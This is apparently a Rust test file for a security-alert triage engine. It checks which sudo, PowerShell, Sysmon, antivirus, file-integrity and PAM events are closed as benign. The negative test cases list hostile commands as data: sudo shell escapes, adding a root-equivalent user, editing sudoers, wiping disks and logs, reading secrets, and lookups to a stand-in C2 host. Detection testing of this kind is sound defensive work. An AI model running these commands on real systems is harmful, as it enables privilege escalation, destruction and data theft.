//! What is closed, and what looks like it and is not.

use super::*;

const SUDO: &str = "Successful sudo to ROOT executed.";

fn sudo(command: &str) -> Disposition {
    let log = format!("Mar  2 08:00:01 app01 sudo: lund : TTY=pts/0 ; PWD=/home/lund ; USER=root ; COMMAND={command}");
    let fields = [("data.srcuser", "lund"), ("data.command", command), ("full_log", &log)];
    said_under(SUDO, 3, "syslog sudo", &fields)
}

#[test]
fn sudo_is_closed_for_care_of_the_system() {
    for command in [
        "/usr/bin/apt-get -y install htop",
        "/usr/bin/apt update",
        "/usr/bin/dnf upgrade -y",
        "/usr/bin/systemctl restart nginx.service",
        "/usr/bin/systemctl start postgresql",
        "/usr/bin/journalctl -u nginx --since=today",
        "/usr/bin/tail -n 50 /var/log/syslog",
        "/usr/bin/docker ps -a",
        "/usr/bin/docker compose pull",
        "/usr/bin/vim /etc/nginx/sites-enabled/shop.conf",
        "/usr/bin/lsblk",
    ] {
        assert!(sudo(command).is_benign(), "{command}");
    }
}

#[test]
fn sudo_stays_open_for_programs_that_do_whatever_they_are_told() {
    for command in [
        "/usr/bin/find . -exec /bin/sh -p ;",
        "/usr/bin/vim -c :!/bin/sh",
        "/usr/bin/awk BEGIN {system(\"id\")}",
        "/usr/bin/python3 -c print(1)",
        "/usr/bin/python3.12 setup.py",
        "/usr/bin/env /bin/sh",
        "/usr/bin/nice bash",
        "/usr/bin/tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh",
        "/usr/bin/perl -e exec \"/bin/sh\"",
        "/usr/bin/gdb -nx -ex !sh -ex quit",
        "/usr/bin/tee -a /etc/sudoers",
        "/usr/bin/cp /bin/bash /var/lib/x/sh",
        "/usr/sbin/usermod -aG sudo eve",
        "/usr/sbin/useradd -o -u 0 eve",
        "/usr/bin/passwd root",
        "/usr/bin/dd of=/dev/sda",
        "/usr/bin/dpkg -i /home/lund/x.deb",
        "/usr/bin/apt-get update -o APT::Update::Pre-Invoke::=/bin/sh",
        "/usr/bin/apt-get install ./x.deb",
        "/usr/bin/strace -p 1",
        "/usr/bin/crontab -e",
        "/usr/bin/ssh-keygen -f /root/.ssh/id",
        "/usr/sbin/visudo",
        "/usr/bin/journalctl --vacuum-time=1s",
        "/usr/bin/systemctl start evil.service",
        "/usr/bin/systemctl edit nginx",
        "/usr/sbin/ufw allow 4444/tcp",
        "/usr/bin/ansible all -m shell -a id",
        "/usr/bin/mount -o loop /home/lund/x.img /mnt",
        "/usr/bin/snap install x --dangerous",
        "/usr/bin/docker run -it alpine sh",
        "/usr/bin/vim /etc/nginx/../sudoers",
        "/home/lund/bin/ls",
    ] {
        assert!(!sudo(command).is_benign(), "{command}");
    }
}

#[test]
fn a_recorded_script_is_closed_only_where_all_of_it_looks() {
    let script = |text: &str| said_of(4, "windows powershell", &[(EVENT, "4104"), (SCRIPT, text)]);
    for text in [
        "Get-Service | Where-Object { $_.Status -eq 'Stopped' } | Sort-Object Name",
        "Import-Module ActiveDirectory",
        r"Import-Module 'C:\Program Files\Vendor\Tools\Tools.psd1'",
        "Get-NetIPAddress | Format-Table",
    ] {
        assert!(script(text).is_benign(), "{text}");
    }
    for text in [
        r"Import-Module .\pv.ps1",
        r"Import-Module C:\ProgramData\x\a.psm1",
        r"Import-Module \\203.0.113.4\s\a.psm1",
        "Get-Disk 1 | Clear-Disk -RemoveData",
        "Get-Volume | Format-Volume -Force",
        "Get-Package * | Uninstall-Package -Force",
        "Get-Service x | Set-Service -StartupType Disabled",
        "Get-Date\nrundll32 C:\\x.dll,Run",
        "Get-Date; whoami",
        "Get-Help & calc",
        "Get-Service | ForEach-Object { $_.Stop() }",
        "Import-Module ActiveDirectory\r\nSet-ADAccountPassword -Identity x -Reset",
    ] {
        assert!(!script(text).is_benign(), "{text}");
    }
}

#[test]
fn a_command_that_shows_is_closed_only_where_it_changes_nothing() {
    let command = |line: &str| {
        let name = line.split(' ').next().unwrap_or(line);
        let fields = [
            ("data.audit.command", name),
            ("data.audit.execve", line),
            ("data.audit.uid", "1001"),
        ];
        said_of(3, "audit audit_command", &fields)
    };
    for line in [
        "journalctl -u nginx",
        "dmesg -T",
        "ip -br addr",
        "date +%F",
        "date -u",
        "man ls",
        "du -sh /home",
        "hostname -f",
        "ping -c 3 10.1.1.1",
        "kubectl -n shop get pods",
        "docker ps -a",
    ] {
        assert!(command(line).is_benign(), "{line}");
    }
    for line in [
        "journalctl --rotate --vacuum-time=1s",
        "dmesg --clear",
        "dmesg -C",
        "ip link set eth0 promisc on",
        "ip route add default via 10.9.3.66",
        "date -s 2020-01-01",
        "date 010100002020",
        "man -P /bin/sh ls",
        "hostname evil",
        "ping -c 1 -p 4142434445 203.0.113.9",
        "hostnamectl set-hostname evil",
        "kubectl get secrets -A",
        "docker exec -it web sh",
    ] {
        assert!(!command(line).is_benign(), "{line}");
    }
}

#[test]
fn a_test_of_a_connection_is_one_only_as_the_whole_command() {
    let started = |line: &str, image: &str, parent: &str, parent_line: &str| {
        let fields = [
            (EVENT, "1"),
            (COMMAND, line),
            (IMAGE, image),
            (PARENT, parent),
            ("data.win.eventdata.parentCommandLine", parent_line),
        ];
        said_of(3, "windows sysmon", &fields)
    };
    let shell = r"C:\Windows\System32\cmd.exe";
    let ping = r"C:\Windows\System32\PING.EXE";
    let powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    assert!(started("ping -n 4 10.1.2.3", ping, shell, "cmd.exe").is_benign());
    for (line, image, parent, parent_line) in [
        (r"C:\Users\e\x.exe --mode ping 1", r"C:\Users\e\x.exe", shell, "cmd.exe"),
        (r"rundll32 \\203.0.113.4\s\a.dll,Run ping x", RUNDLL, shell, "cmd.exe"),
        (
            "powershell -c Resolve-DnsName -Type TXT a8f3.c2.example.com",
            powershell,
            shell,
            "cmd.exe",
        ),
        (
            "nslookup -q=txt a8f3.c2.example.com",
            r"C:\Windows\System32\nslookup.exe",
            shell,
            "cmd.exe",
        ),
        ("ping 10.1.2.3", r"C:\Users\e\ping.exe", shell, "cmd.exe"),
        (r"C:\Users\e\x.exe", r"C:\Users\e\x.exe", shell, "ping 10.1.2.3"),
        (
            r"C:\Windows\Tasks2\svc.exe -k",
            r"C:\Windows\Tasks2\svc.exe",
            r"C:\Windows\System32\Taskmgr.exe",
            r"C:\Windows\System32\Taskmgr.exe /4",
        ),
    ] {
        assert!(!started(line, image, parent, parent_line).is_benign(), "{line}");
    }
}

#[test]
fn windows_starts_its_own_parts_and_nothing_else_by_their_names() {
    let part = |line: &str, image: &str, parent: &str| {
        said_of(
            3,
            "windows sysmon",
            &[(EVENT, "1"), (COMMAND, line), (IMAGE, image), (PARENT, parent)],
        )
    };
    let host = r"C:\Windows\System32\svchost.exe";
    let dllhost = r"C:\Windows\System32\dllhost.exe";
    let surrogate = "DllHost.exe /Processid:{49F171DD-B51A-40D3-9A6C-52D674CC729D}";
    let without_consent = "DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}";
    assert!(part(surrogate, dllhost, host).is_benign());
    assert!(
        part(
            "splwow64.exe 12288",
            r"C:\Windows\splwow64.exe",
            r"C:\Program Files\Vendor\app.exe"
        )
        .is_benign()
    );
    assert!(!part(surrogate, r"C:\Users\e\dllhost.exe", host).is_benign());
    assert!(!part(surrogate, dllhost, r"C:\Users\e\x.exe").is_benign());
    assert!(!part(without_consent, dllhost, host).is_benign());
    assert!(!part("dllhost.exe", dllhost, host).is_benign());
}

#[test]
fn the_test_file_of_scanners_is_known_by_its_name_of_a_threat_or_its_digest() {
    let clam = |name: &str, line: &str| {
        let fields = [("data.extra_data", name), ("full_log", line)];
        said_under("ClamAV: Virus detected", 8, "clamd freshclam virus", &fields)
    };
    let head = "Mar  2 08:00:01 fs01 clamd[88]: /srv/share";
    assert!(
        clam(
            "Win.Test.EICAR_HDB-1",
            &format!("{head}/x.com: Win.Test.EICAR_HDB-1 FOUND")
        )
        .is_benign()
    );
    assert!(clam("", &format!("{head}/x.com: Eicar-Test-Signature FOUND")).is_benign());
    for folder in ["eicar-test", "signature=eicar_test", "x: Eicar-Test-Signature FOUND"] {
        let line = format!("{head}/{folder}/inv.exe: Win.Trojan.Agent-1 FOUND");
        assert_eq!(clam("Win.Trojan.Agent-1", &line), Disposition::TruePositive, "{folder}");
    }
    let defender = |threat: &str, path: &str| {
        let fields = [
            (EVENT, "1116"),
            (
                "data.win.system.channel",
                "Microsoft-Windows-Windows Defender/Operational",
            ),
            ("data.win.eventdata.threat Name", threat),
            ("data.win.eventdata.path", path),
        ];
        said_under("Antimalware found something", 5, "windows windows_defender", &fields)
    };
    assert!(defender("Virus:DOS/EICAR_Test_File", r"file:_C:\Users\e\x.com").is_benign());
    assert_eq!(
        defender(
            "Trojan:Win32/Emotet",
            r"file:_C:\Users\e\eicar-test\threat name=eicar_test.exe"
        ),
        Disposition::TruePositive
    );
}

#[test]
fn a_scanner_of_files_is_silent_only_by_its_own_words() {
    let virustotal = |file: &str, rest: &str| {
        let title = format!("VirusTotal: Alert - {file} - {rest}");
        let fields = [
            ("data.virustotal.source.file", file),
            ("data.integration", "virustotal"),
        ];
        said_under(&title, 7, "virustotal", &fields)
    };
    assert!(virustotal("/srv/share/x.com", "No positives found").is_benign());
    for (file, rest) in [
        ("/srv/share/x.com", "50 engines detected this file"),
        ("/srv/share/error.exe", "7 engines detected this file"),
        ("/srv/no records/update.exe", "7 engines detected this file"),
        ("/srv/clean.exe", "7 engines detected this file"),
    ] {
        assert_eq!(virustotal(file, rest), Disposition::TruePositive, "{file} {rest}");
    }
}

#[test]
fn everyday_services_and_installers_are_no_attack() {
    let service = |path: &str| {
        let fields = [(EVENT, "7045"), ("data.win.eventdata.imagePath", path)];
        said_of(5, "windows windows_system", &fields)
    };
    let definitions = r"C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{6E0A6E1F-9C5D-4D0B-A7C1-52D674CC729D}\MpKslDrv.sys";
    assert!(service(definitions).is_benign());
    assert_eq!(service(r"C:\Windows\Sysmon64.exe"), Disposition::NeedsInvestigation);
    for path in [
        r"C:\ProgramData\Microsoft\Windows Defender\..\..\x.exe",
        r"C:\ProgramData\Vendor\MpKslDrv.sys",
        r"C:\Windows\kqzxwyab.exe",
    ] {
        assert_eq!(service(path), Disposition::TruePositive, "{path}");
    }
    let written = |writer: &str| {
        let fields = [
            ("syscheck.path", "/usr/bin/openssl"),
            ("syscheck.event", "modified"),
            ("syscheck.audit.process.name", writer),
        ];
        said_under(
            "Integrity checksum changed.",
            7,
            "ossec syscheck syscheck_file",
            &fields,
        )
    };
    assert!(written("/usr/bin/dnf-3").is_benign());
    assert_eq!(written("/usr/bin/python3.9"), Disposition::NeedsInvestigation);
    assert_eq!(written("/usr/bin/curl"), Disposition::TruePositive);
}

#[test]
fn a_file_that_starts_something_is_no_churn_wherever_it_lies() {
    let changed = |path: &str| {
        let fields = [("syscheck.path", path), ("syscheck.event", "modified")];
        said_under(
            "Integrity checksum changed.",
            7,
            "ossec syscheck syscheck_file",
            &fields,
        )
    };
    for path in [
        "/var/cache/apt/pkgcache.bin",
        "/srv/app/.git/index",
        "/var/log/nginx/access.log",
        "/etc/cups/printers.conf",
    ] {
        assert!(changed(path).is_benign(), "{path}");
    }
    for path in [
        "/var/spool/cron/crontabs/root",
        "/srv/app/.git/hooks/post-merge",
        "/var/www/html/cache/.htaccess",
        "/etc/cron.d/backups/x",
        "/etc/cups/cups-files.conf",
        "/var/log/audit/audit.log",
        "/srv/backups/.ssh/authorized_keys",
    ] {
        assert!(!changed(path).is_benign(), "{path}");
    }
}

#[test]
fn an_installed_program_is_plain_only_where_nobody_steers_it() {
    let chrome = r"C:\Program Files\Google\Chrome\Application\chrome.exe";
    let installer = r"C:\Windows\System32\msiexec.exe";
    let agent = r"C:\Program Files\Vendor\agent.exe";
    let system = ("data.win.eventdata.user", r"NT AUTHORITY\SYSTEM");
    let started = |line: &str, image: &str, parent: &str| {
        let fields = [(EVENT, "1"), (COMMAND, line), (IMAGE, image), (PARENT, parent), system];
        said_of(3, "windows sysmon", &fields)
    };
    let registry = r"C:\Windows\System32\reg.exe";
    let shell = r"C:\Windows\System32\cmd.exe";
    assert!(started(&format!("{chrome} --profile-directory=Default"), chrome, EXPLORER).is_benign());
    assert!(
        started(
            &format!("{installer} /V"),
            installer,
            r"C:\Windows\System32\services.exe"
        )
        .is_benign()
    );
    let part = r"C:\Windows\syswow64\MsiExec.exe";
    let embedding = format!(r"{part} -Embedding 0A1B2C3D4E5F60718293A4B5C6D7E8F9 E Global\MSI0000");
    assert!(started(&embedding, part, installer).is_benign());
    assert!(started(r"reg query HKLM\Software\Vendor", registry, agent).is_benign());
    for (line, image, parent) in [
        (format!("{chrome} --remote-debugging-port=9222"), chrome, EXPLORER),
        (format!("{chrome} --headless --dump-dom"), chrome, EXPLORER),
        (
            r"msiexec /i C:\Users\e\Downloads\a.msi /qn".to_owned(),
            installer,
            EXPLORER,
        ),
        (r"msiexec /q /i E:\invoice.msi".to_owned(), installer, EXPLORER),
        (r"msiexec /q /i C:\Temp\invoice.msi".to_owned(), installer, EXPLORER),
        (r"msiexec /y E:\invoice.ocx".to_owned(), installer, shell),
        (r"msiexec /z D:\x.cpl".to_owned(), installer, shell),
        (format!("{installer} /V"), installer, shell),
        (r"reg query HKLM /f password /t REG_SZ /s".to_owned(), registry, agent),
    ] {
        assert!(!started(&line, image, parent).is_benign(), "{line}");
    }
}

#[test]
fn a_rule_of_which_every_fact_was_withheld_is_never_closed() {
    let groups = "syslog sshd authentication_success dpkg sca";
    assert!(said_under("alert", 3, groups, &[("location", "/var/log/auth.log")]).is_benign());
    assert!(!said_under("alert", 3, groups, &[]).is_benign());
}

#[test]
fn a_session_is_ordinary_only_for_who_may_have_one() {
    let session = |program: &str, rest: &str| {
        let line = format!("Mar  2 08:00:01 app01 {program}[81]: pam_unix({rest}");
        let fields = [("data.dstuser", "root"), ("full_log", line.as_str())];
        said_under(
            "PAM: Login session opened.",
            3,
            "pam syslog authentication_success",
            &fields,
        )
    };
    assert!(
        session(
            "sudo",
            "sudo:session): session opened for user root(uid=0) by lund(uid=1001)"
        )
        .is_benign()
    );
    assert!(
        session(
            "sshd",
            "sshd:session): session opened for user lund(uid=1001) by (uid=0)"
        )
        .is_benign()
    );
    for (program, rest) in [
        (
            "sudo",
            "sudo:session): session opened for user root(uid=0) by www-data(uid=33)",
        ),
        ("su", "su-l:session): session opened for user root by tomcat9(uid=998)"),
        (
            "sshd",
            "sshd:session): session opened for user mysql(uid=112) by (uid=0)",
        ),
    ] {
        assert!(!session(program, rest).is_benign(), "{program} {rest}");
    }
}
